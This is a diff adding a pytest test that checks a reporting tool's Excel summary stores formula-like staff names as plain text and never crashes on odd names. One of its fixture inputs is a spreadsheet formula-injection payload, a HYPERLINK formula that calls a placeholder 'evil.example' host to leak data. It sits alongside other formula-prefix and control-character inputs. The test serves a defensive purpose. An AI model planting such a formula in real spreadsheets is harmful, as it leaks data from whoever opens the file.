@@ -351,6 +351,44 @@ def test_workbook_has_the_same_tables(visits, tmp_path):
     assert book["Summary"]["B2"].value == "2026-09-01 to 2027-08-31"
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?leak","Pat")',
+        "+SUM(1,1)",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\uff1d1+1",  # a full-width equals sign
+        "Pat\x01 Lee",  # Excel's _x0001_: openpyxl refuses it, so report used to stop
+        "Pat \ud800Lee",  # a lone surrogate
+    ],
+)
+def test_the_summary_workbook_holds_no_formula_and_never_stops_on_a_name(visits, tmp_path, name):
+    from openpyxl import load_workbook
+    from python_calamine import CalamineWorkbook
+
+    from homevisits.formula_guard import is_formula_like, text_cell
+
+    visits.frame.loc[0, "lead_staff"] = name
+    visits.frame.loc[1, "second_staff"] = name
+    summary = build_summary(visits, [], now=NOW)
+    _, xlsx_path = write_report(summary, tmp_path)
+    with zipfile.ZipFile(xlsx_path) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(rb"<(?:\w+:)?f[\s>]", part) for part in sheets)
+    expected = [text_cell(row[0])[0] for row in summary.table("by_staff").rows]
+    assert text_cell(name)[0].strip() in [n.strip() for n in expected]  # the odd name is in the table
+    staff = load_workbook(xlsx_path)["By member of staff"]
+    cells = [c for (c,) in staff.iter_rows(min_row=2, max_col=1, max_row=1 + len(expected))]
+    assert [c.value for c in cells] == expected  # shown as typed, no apostrophe added, nothing run
+    for cell in cells:
+        assert cell.data_type == "s" and cell.quotePrefix == is_formula_like(cell.value)
+    assert any(c.quotePrefix for c in cells) == any(is_formula_like(n) for n in expected)
+    calamine = CalamineWorkbook.from_path(str(xlsx_path)).get_sheet_by_name("By member of staff").to_python()
+    assert [row[0] for row in calamine[1 : 1 + len(expected)]] == expected
+
+
 def test_summary_page_survives_odd_staff_names(visits):
     visits.frame.loc[0, "lead_staff"] = "Pat $\\frac{$ <b>Lee</b>"
     html = summary_page(build_summary(visits, [], now=NOW))
